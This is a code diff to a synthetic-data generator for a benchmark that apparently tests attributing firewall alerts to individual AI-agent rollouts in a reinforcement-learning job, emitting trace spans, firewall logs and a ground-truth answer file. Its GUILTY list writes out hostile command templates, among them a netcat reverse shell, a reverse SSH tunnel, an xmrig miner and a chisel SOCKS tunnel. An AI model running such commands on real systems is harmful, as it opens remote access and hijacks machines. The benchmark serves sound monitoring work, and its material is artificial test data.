@@ -2,9 +2,9 @@
 
     python benchmarks/attribution/generate.py OUT --scenario socket --seed 1
 
-A job of several nodes runs groups of rollouts at once. Rollouts take turns and call tools; a few calls open sockets that
-a firewall objects to. Beside them the log holds decoys (ordinary flows of the same calls), strays (other machines and
-daemons of the same machines: nobody in this job), and its clock is wrong.
+A job of several nodes runs groups of rollouts at once. Rollouts take turns and call tools; a few calls open sockets
+that a firewall objects to. Beside them the log holds decoys (ordinary flows of the same calls) and strays (other
+machines, daemons of the same machines: nobody in this job), and its clock is wrong.
 """
 
 from __future__ import annotations
@@ -20,12 +20,16 @@ SECOND = 1_000_000_000
 BEGIN = int(datetime(2026, 3, 7, 3, 0, tzinfo=UTC).timestamp()) * SECOND
 FAR = ["198.51.100.7", "198.51.100.88", "203.0.113.40", "192.0.2.19"]
 
-QUIET = ["ls -la src", "cat README.md", "python -m pytest -q tests/test_{n}.py", "grep -rn TODO .", "sed -i s/a{n}/b/ x.py",
-         "python train.py --steps {n}", "make -j2", "git diff HEAD~1", "python - <<'E'\nprint({n})\nE", "bash run_{n}.sh"]  # fmt: skip
-TALKING = ["pip install numpy=={n}", "curl -sO https://files.example.org/{n}.tgz", "git clone https://git.example.org/r{n}.git",
-           "npm install left-pad@{n}", "python fetch.py --url https://data.example.org/{n}"]  # fmt: skip
-GUILTY = ["ssh -fNR {p}:localhost:22 u{n}@{ip}", "./xmrig -o stratum+tcp://{ip}:{port} -u w{n}", "nc -e /bin/sh {ip} {port}",
-          "python agent.py --task {n}", "bash setup_{n}.sh", "nmap -sT {ip}", "./chisel client {ip}:{port} R:socks"]  # fmt: skip
+QUIET = r"""ls -la src|cat README.md|python -m pytest -q tests/test_{n}.py|grep -rn TODO .|sed -i s/a{n}/b/ x.py
+python train.py --steps {n}|make -j2|git diff HEAD~1|python -c print({n})|bash run_{n}.sh""".replace("\n", "|").split(
+    "|"
+)
+TALKING = """pip install numpy=={n}|curl -sO https://files.example.org/{n}.tgz|git clone https://git.example.org/r{n}.git
+npm install left-pad@{n}|python fetch.py --url https://data.example.org/{n}""".replace("\n", "|").split("|")
+GUILTY = """ssh -fNR {p}:localhost:22 u{n}@{ip}|./xmrig -o stratum+tcp://{ip}:{port} -u w{n}|nc -e /bin/sh {ip} {port}
+python agent.py --task {n}|bash setup_{n}.sh|nmap -sT {ip}|./chisel client {ip}:{port} R:socks""".replace(
+    "\n", "|"
+).split("|")
 
 
 @dataclass(frozen=True)
@@ -114,9 +118,12 @@ class Job:
         trace, root = self.identifier(16), self.identifier(8)
         begin, iteration = at, (at - BEGIN) // (600 * SECOND)
         identity = {
-            "rl.run.id": "run-1", "rl.iteration": iteration, "rl.rollout.id": name, "rl.group.id": f"g{iteration}-{node % 4}",
+            "rl.run.id": "run-1",
+            "rl.iteration": iteration,
+            "rl.rollout.id": name,
+            "rl.group.id": f"g{iteration}-{node % 4}",
             "rl.policy.version": str(iteration),
-        }  # fmt: skip
+        }
         guilty = False
         for turn in range(self.chance.randrange(2, 9)):
             turn_span, turn_begin = self.identifier(8), at
@@ -139,28 +146,70 @@ class Job:
             survives = chance.random() < 0.15
             start = call.start + int(chance.uniform(0.02, 0.8) * (call.end - call.start))
             end = call.end + int(chance.uniform(5, 120) * SECOND) if survives and self.scenario.sockets else call.end
-            call.flows.append(Flow(call.node, start, end, self.port(call.node), peer, peer_port, True, call.span, str(identity["rl.rollout.id"])))
+            call.flows.append(
+                Flow(
+                    call.node,
+                    start,
+                    end,
+                    self.port(call.node),
+                    peer,
+                    peer_port,
+                    True,
+                    call.span,
+                    str(identity["rl.rollout.id"]),
+                )
+            )
         elif chance.random() < 0.25:
             words = chance.choice(TALKING).format(n=number)
             for _ in range(chance.randrange(1, 4)):
                 start = call.start + int(chance.uniform(0.02, 0.9) * (call.end - call.start))
-                call.flows.append(Flow(call.node, start, call.end, self.port(call.node), f"192.0.2.{chance.randrange(100, 120)}", 443, False, call.span, str(identity["rl.rollout.id"])))  # fmt: skip
+                call.flows.append(
+                    Flow(
+                        call.node,
+                        start,
+                        call.end,
+                        self.port(call.node),
+                        f"192.0.2.{chance.randrange(100, 120)}",
+                        443,
+                        False,
+                        call.span,
+                        str(identity["rl.rollout.id"]),
+                    )
+                )
         else:
             words = chance.choice(QUIET).format(n=number)
         attributes: dict[str, object] = {
-            **identity, "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "bash", "gen_ai.tool.call.id": f"c-{call.span[:6]}",
-        }  # fmt: skip
+            **identity,
+            "gen_ai.operation.name": "execute_tool",
+            "gen_ai.tool.name": "bash",
+            "gen_ai.tool.call.id": f"c-{call.span[:6]}",
+        }
         if self.scenario.arguments:
             attributes["gen_ai.tool.call.arguments"] = json.dumps({"command": words})
         self.span(call.trace, call.span, parent, "execute_tool bash", call.start, call.end, attributes, call.node)
         for flow in call.flows:
             self.flows.append(flow)
             if self.scenario.sockets:
-                self.span(call.trace, self.identifier(8), call.span, "egress connect", flow.start, flow.end, {
-                    **identity, "network.transport": "tcp", "network.local.address": f"10.0.0.{flow.node + 5}",
-                    "network.local.port": flow.local_port, "network.peer.address": flow.peer, "network.peer.port": flow.peer_port,
-                    "ray_guard.egress.decision": "allow", "ray_guard.egress.scope": "exact", "ray_guard.source": "supervisor",
-                }, flow.node)  # fmt: skip
+                self.span(
+                    call.trace,
+                    self.identifier(8),
+                    call.span,
+                    "egress connect",
+                    flow.start,
+                    flow.end,
+                    {
+                        **identity,
+                        "network.transport": "tcp",
+                        "network.local.address": f"10.0.0.{flow.node + 5}",
+                        "network.local.port": flow.local_port,
+                        "network.peer.address": flow.peer,
+                        "network.peer.port": flow.peer_port,
+                        "ray_guard.egress.decision": "allow",
+                        "ray_guard.egress.scope": "exact",
+                        "ray_guard.source": "supervisor",
+                    },
+                    flow.node,
+                )
         return guilty
 
     def strays(self, node: int) -> None:
@@ -172,23 +221,40 @@ class Job:
                 return
             where = node if chance.random() < 0.6 else 100 + chance.randrange(20)
             port = self.port(node) if where == node else chance.randrange(32768, 60999)
-            self.flows.append(Flow(where, at, at + SECOND, port, chance.choice(FAR), chance.choice([22, 443, 4444]), True, None))
+            self.flows.append(
+                Flow(where, at, at + SECOND, port, chance.choice(FAR), chance.choice([22, 443, 4444]), True, None)
+            )
 
-    def span(self, trace: str, span: str, parent: str | None, name: str, start: int, end: int,
-             attributes: dict[str, object], node: int) -> None:  # fmt: skip
+    def span(  # noqa: PLR0917 - a span's parts
+        self,
+        trace: str,
+        span: str,
+        parent: str | None,
+        name: str,
+        start: int,
+        end: int,
+        attributes: dict[str, object],
+        node: int,
+    ) -> None:
         if self.chance.random() < self.scenario.lost:
             return
         record = {
-            "traceId": trace, "spanId": span, "name": name, "kind": 3 if name == "egress connect" else 1,
-            "startTimeUnixNano": str(start), "endTimeUnixNano": str(end),
+            "traceId": trace,
+            "spanId": span,
+            "name": name,
+            "kind": 3 if name == "egress connect" else 1,
+            "startTimeUnixNano": str(start),
+            "endTimeUnixNano": str(end),
             "attributes": [{"key": key, "value": _value(value)} for key, value in attributes.items()],
-        }  # fmt: skip
+        }
         if parent is not None:
             record["parentSpanId"] = parent
         resource = {"service.name": "rl", "host.name": f"node-{node}", "ray.node_id": f"{node:056x}"}
         about = [{"key": key, "value": {"stringValue": value}} for key, value in resource.items()]
         about.append({"key": "host.ip", "value": {"arrayValue": {"values": [{"stringValue": f"10.0.0.{node + 5}"}]}}})
-        self.lines.append(json.dumps({"resourceSpans": [{"resource": {"attributes": about}, "scopeSpans": [{"spans": [record]}]}]}))
+        self.lines.append(
+            json.dumps({"resourceSpans": [{"resource": {"attributes": about}, "scopeSpans": [{"spans": [record]}]}]})
+        )
 
 
 def _value(value: object) -> dict[str, object]:
@@ -210,15 +276,29 @@ def logs(job: Job, folder: Path) -> None:
         address, port = (f"10.0.0.{flow.node + 5}" if flow.node < 100 else f"10.0.9.{flow.node - 90}"), flow.local_port
         if scenario.nat != "none":
             address, port = "203.0.113.200", chance.randrange(1024, 65000)
-            mappings.append(f"{theirs / SECOND - 0.2:.3f},{(theirs + flow.end - flow.start) / SECOND + 0.2:.3f},"
-                            f"10.0.0.{flow.node + 5},{flow.local_port},{address},{port},tcp" if flow.node < 100 else "")  # fmt: skip
+            mappings.append(
+                f"{theirs / SECOND - 0.2:.3f},{(theirs + flow.end - flow.start) / SECOND + 0.2:.3f},"
+                f"10.0.0.{flow.node + 5},{flow.local_port},{address},{port},tcp"
+                if flow.node < 100
+                else ""
+            )
         kind = chance.choice(scenario.formats)
-        out[kind].append((theirs, _line(kind, theirs, (address, port), (flow.peer, flow.peer_port), flow.objected), flow.cause, flow.rollout, flow.objected))
+        out[kind].append(
+            (
+                theirs,
+                _line(kind, theirs, (address, port), (flow.peer, flow.peer_port), objected=flow.objected),
+                flow.cause,
+                flow.rollout,
+                flow.objected,
+            )
+        )
     truth = []
     for kind, rows in out.items():
         offset, lines = 0, []
         for _, line, cause, rollout, objected in sorted(rows, key=lambda row: row[:2]):
-            truth.append({"path": f"{kind}.log", "byte_offset": offset, "span": cause, "rollout": rollout, "objected": objected})
+            truth.append(
+                {"path": f"{kind}.log", "byte_offset": offset, "span": cause, "rollout": rollout, "objected": objected}
+            )
             lines.append(line)
             offset += len(line) + 1
         (folder / f"{kind}.log").write_text("".join(f"{line}\n" for line in lines))
@@ -227,26 +307,40 @@ def logs(job: Job, folder: Path) -> None:
         (folder / "nat.csv").write_text("\n".join(row for row in mappings if row) + "\n")
 
 
-def _line(kind: str, at: int, ours: tuple[str, int], theirs: tuple[str, int], objected: bool) -> str:
+def _line(kind: str, at: int, ours: tuple[str, int], theirs: tuple[str, int], *, objected: bool) -> str:
     moment = datetime.fromtimestamp(at // SECOND, UTC)
     micro = at % SECOND // 1000
     if kind == "suricata":
         event: dict[str, object] = {
-            "timestamp": f"{moment:%Y-%m-%dT%H:%M:%S}.{micro:06d}+0000", "flow_id": at % 10**15,
-            "event_type": "alert" if objected else "tls", "src_ip": ours[0], "src_port": ours[1], "dest_ip": theirs[0],
-            "dest_port": theirs[1], "proto": "TCP",
-        }  # fmt: skip
+            "timestamp": f"{moment:%Y-%m-%dT%H:%M:%S}.{micro:06d}+0000",
+            "flow_id": at % 10**15,
+            "event_type": "alert" if objected else "tls",
+            "src_ip": ours[0],
+            "src_port": ours[1],
+            "dest_ip": theirs[0],
+            "dest_port": theirs[1],
+            "proto": "TCP",
+        }
         if objected:
-            event["alert"] = {"action": "allowed", "signature_id": 2003068, "signature": "ET POLICY Outbound", "severity": 2}
+            event["alert"] = {
+                "action": "allowed",
+                "signature_id": 2003068,
+                "signature": "ET POLICY Outbound",
+                "severity": 2,
+            }
         return json.dumps(event)
     if kind == "nftables":
         prefix = "EGRESS-ALERT: " if objected else ""
-        return (f"{moment:%b %e %H:%M:%S} gw kernel: {prefix}IN=eth1 OUT=eth0 SRC={ours[0]} DST={theirs[0]} LEN=60 TOS=0x00 "
-                f"PREC=0x00 TTL=64 ID=1 DF PROTO=TCP SPT={ours[1]} DPT={theirs[1]} WINDOW=64240 RES=0x00 SYN URGP=0")  # fmt: skip
+        return (
+            f"{moment:%b %e %H:%M:%S} gw kernel: {prefix}IN=eth1 OUT=eth0 SRC={ours[0]} DST={theirs[0]} LEN=60 "
+            f"TOS=0x00 PREC=0x00 TTL=64 ID=1 DF PROTO=TCP SPT={ours[1]} DPT={theirs[1]} WINDOW=64240 SYN URGP=0"
+        )
     action = "deny" if objected else "accept"
-    return (f'date={moment:%Y-%m-%d} time={moment:%H:%M:%S} devname="fw" devid="FG1" eventtime={at} tz="+0000" logid="13" '
-            f'type="traffic" subtype="forward" srcip={ours[0]} srcport={ours[1]} dstip={theirs[0]} dstport={theirs[1]} '
-            f'proto=6 action="{action}" policyid=12')  # fmt: skip
+    return (
+        f'date={moment:%Y-%m-%d} time={moment:%H:%M:%S} devname="fw" devid="FG1" eventtime={at} tz="+0000" '
+        f'logid="13" type="traffic" subtype="forward" srcip={ours[0]} srcport={ours[1]} '
+        f'dstip={theirs[0]} dstport={theirs[1]} proto=6 action="{action}" policyid=12'
+    )
 
 
 def generate(folder: Path, scenario: Scenario, seed: int) -> None:
